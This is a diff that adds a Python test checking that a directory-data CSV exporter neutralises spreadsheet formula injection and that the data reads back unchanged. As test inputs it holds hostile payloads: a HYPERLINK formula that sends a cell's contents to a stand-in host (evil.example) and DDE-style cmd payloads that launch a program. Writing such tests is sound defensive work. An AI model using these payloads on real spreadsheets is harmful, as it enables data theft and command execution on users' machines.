@@ -4,6 +4,7 @@ problem is named at its file and the line where its row or object starts, all of
 from __future__ import annotations
 
 import ast
+import csv
 import json
 import shutil
 import sys
@@ -155,6 +156,24 @@ def test_writing_the_same_directory_twice_writes_the_same_files(sample: Director
     write_json(sample, tmp_path / "a.json")
     write_json(read(tmp_path / "a.json"), tmp_path / "b.json")
     assert (tmp_path / "a.json").read_bytes() == (tmp_path / "b.json").read_bytes()
+
+
+def test_a_written_cell_is_never_a_formula_in_a_spreadsheet_and_reads_back_as_it_was(tmp_path: Path) -> None:
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1)", "'=already quoted", "''"]
+    directory = Directory(
+        organizations=(Organization("org-1", formulas[0], email="=x@evil.example"),),
+        services=(Service("svc-1", "org-1", formulas[1], description=formulas[2], alternate_name=formulas[3],
+                          application_process=formulas[4], fees_description=formulas[5],
+                          eligibility_description="'plain, it stays", phones=(
+                              hsds.Phone("ph-1", "+32 2 555 01 10"), hsds.Phone("ph-2", "@1 call us"))),))
+    write_package(directory, tmp_path / "out")
+    cells = [cell for name in ("organization", "service", "phone")
+             for row in csv.reader((tmp_path / "out" / f"{name}.csv").read_text(encoding="utf-8").splitlines())
+             for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and cell != "+32 2 555 01 10"], cells
+    assert {"'" + f for f in formulas} <= set(cells) and "'plain, it stays" in cells
+    assert read(tmp_path / "out") == directory
 
 
 def test_the_written_index_is_a_tabular_data_package(sample: Directory, tmp_path: Path) -> None:
